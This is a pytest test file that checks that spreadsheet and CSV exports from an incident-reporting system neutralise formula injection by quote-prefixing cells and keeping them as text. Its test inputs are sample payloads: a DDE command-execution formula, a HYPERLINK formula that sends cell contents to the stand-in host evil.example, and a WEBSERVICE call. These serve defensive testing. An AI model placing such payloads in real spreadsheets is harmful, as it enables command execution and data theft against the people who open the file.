"""What people typed stays text in every spreadsheet that leaves the program."""

import csv
from io import BytesIO, StringIO

import pytest
from openpyxl import load_workbook
from xlsxwriter import Workbook

from attachments.spreadsheets import csv_of, harmless, write_workbook
from incidents.exporting import Cells

FORMULAS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    "+46 70 123",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=WEBSERVICE(A1)",
]
NUMBERS = ["12", "-3", "-3,5", "0.25"]
WORDS = ["Fell 2–3 m", "a = b", "100,-", "mail@work", "2, -5 degrees", "1=1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_is_text_in_a_text_file(text):
    ((cell, number),) = csv.reader(
        StringIO(csv_of([[text, 5]]).decode("utf-8-sig"), newline=""), delimiter=";"
    )

    assert cell.startswith("'")
    assert cell.replace("'", "") == text.replace("'", "")
    assert number == "5"


@pytest.mark.parametrize("text", [*NUMBERS, *WORDS])
def test_numbers_and_words_are_as_they_were(text):
    assert harmless(text) == text


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_formula_begins_where_another_sign_divides_the_columns(delimiter):
    typed = "x,=1+1;=2+2\t@SUM(A1)\n=3+3,-4+4"

    text = csv_of([["a", typed]]).decode("utf-8-sig")

    read = csv.reader(StringIO(text, newline=""), delimiter=delimiter)
    cells = [cell.strip('"') for row in read for cell in row]
    assert not [cell for cell in cells if cell.startswith(tuple("=+-@"))]


def workbook_of(text):
    file = BytesIO()
    write_workbook(file, "Sheet", [[text, 5]])
    return file


def list_of(text):
    """As the list of incidents is written."""
    file = BytesIO()
    with Workbook(file) as book:
        Cells(book.add_worksheet(), book).write(0, [text, 5])
    return file


@pytest.mark.parametrize("write", [workbook_of, list_of])
@pytest.mark.parametrize("text", FORMULAS)
def test_formula_is_text_in_a_workbook_also_when_it_is_edited(write, text):
    cell, number = load_workbook(write(text)).active[1]

    assert cell.data_type == "s"
    assert cell.quotePrefix
    assert (number.value, number.data_type) == (5, "n")
